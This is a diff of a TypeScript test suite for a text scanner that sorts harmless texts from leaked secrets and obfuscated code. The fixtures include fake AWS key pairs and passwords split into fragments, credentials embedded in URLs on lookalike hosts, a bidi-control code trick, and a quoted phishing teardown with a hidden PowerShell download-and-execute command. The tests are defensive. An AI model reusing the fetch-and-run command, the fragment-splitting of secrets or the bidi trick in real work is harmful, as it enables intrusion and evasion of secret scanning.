@@ -57,6 +57,8 @@ const DOCUMENTATION: [string, string][] = [
     '`Test-Path "\u202aC:\\Users\\build\\a.txt"` is false although the file exists.',
   ],
   ['a lookup by a name', 'for key in config["system"].keys(): parse(key)'],
+  ['a message in Hebrew', '\u202bשגיאה בקובץ config.json בשורה 3\u202c'],
+  ['a message in Arabic', '\u2067الملف \u2066config.yaml\u2069 غير موجود\u2069'],
   ['a sample of a Vault token', ['sample: s.nnrpog4i5gj', 'izr6b8g1inwj3'].join('')],
 ]
 
@@ -69,8 +71,51 @@ powershell -w hidden -enc <base64 of: iwr hxxp://[redacted]/a.ps1 | iex>
 
 Indicators: clipboard write without user gesture, title "One more step". Block mshta and powershell as children of explorer.`
 
+const PASSWORD = ['Tr0ub4', 'dorX9'].join('')
+const KEY_ID = ['AKIA', 'Z7QFW3N2', 'LKP5RX4M'].join('')
+const KEY_SECRET = ['wJ4lrXUtn7E', 'MIK7MDENG/bPx9fiCY', 'qk9TzLw3Nd8'].join('')
+
+/** As bundlers write it: short names of variables, long ones of properties. */
+const MINIFIED = Array.from(
+  { length: 260 },
+  (_, at) =>
+    `t.a${at}=s.b${at},s.on("\\u0041bc\\n",s.onDocumentChangeOfTheSession)*this.$a_${at}*<b>e[c](_${at}),`,
+).join('')
+
 /** Nothing in these is hidden, though a moderator may look at them. */
-const PUBLIC: [string, string][] = [['what a phishing page does', TEARDOWN]]
+const PUBLIC: [string, string][] = [
+  ['what a phishing page does', TEARDOWN],
+  [
+    'a signed link that no longer opens anything',
+    `The upload fails with 403:\n\nhttps://b.s3.eu-west-1.amazonaws.com/a.tgz?X-Amz-Credential=${KEY_ID}%2F20260301%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Expires=900&X-Amz-Signature=${'0b1d5e9f27c38a46'.repeat(4)}`,
+  ],
+  [
+    'a line of CloudTrail',
+    `\`\`\`json\n{"userIdentity": {"type": "IAMUser", "accessKeyId": "${KEY_ID}"}, "eventName": "PutObject", "requestID": "K2S8JQNX81EXQ0TA", "errorCode": "AccessDenied"}\n\`\`\``,
+  ],
+  ['a minified program', `We ship this:\n\n\`\`\`js\n${MINIFIED}\n\`\`\``],
+  ['how an address is parsed', `urlopen("http://evil:${PASSWORD}@example.com") raises InvalidURL.`],
+  [
+    'how a database is named',
+    `DATABASE_URL=postgresql://app:${PASSWORD}@db.staging.example.com:5432/app`,
+  ],
+]
+
+/** Close to honest texts, but for what they give away. */
+const LEAKS: [string, string][] = [
+  ['the file of a new key of AWS', `Access key ID,Secret access key\n${KEY_ID},${KEY_SECRET}\n`],
+  ['a key of AWS in words', `Use ${KEY_ID} and the secret \`${KEY_SECRET}\`.`],
+  [
+    'a password for a host that looks like one of examples',
+    `https://app:${PASSWORD}@example.com.acme-corp.net/`,
+  ],
+  [
+    'a password for a host beside one of examples',
+    `https://app:${PASSWORD}@git.acme-corp.net/?to=@example.com`,
+  ],
+  ['a token in a minified program', MINIFIED + ['s.k3Vw9ZtQ1m', 'Xp7Rb6Yd2Ln8Hc'].join('')],
+  ['a key of AWS on two lines', `id: ${KEY_ID}\nvalue: ${KEY_SECRET}\n`],
+]
 
 describe('honest texts', () => {
   it.each(DOCUMENTATION)('lets %s pass', (_what, text) => {
@@ -79,5 +124,14 @@ describe('honest texts', () => {
 
   it.each(PUBLIC)('hides nothing of %s', (_what, text) => {
     expect(scanText(text).verdict).not.toMatch(/quarantine|block/)
+  })
+
+  it.each(LEAKS)('does not take %s for one', (_what, text) => {
+    expect(scanText(text).verdict).toMatch(/quarantine|block/)
+  })
+
+  it('does not take code for one that is turned round', () => {
+    const text = "'''Subtract the funds, then \u2067''' ;return"
+    expect(scanText(text).findings).toMatchObject([{ rule: 'obfuscation.bidi-control' }])
   })
 })
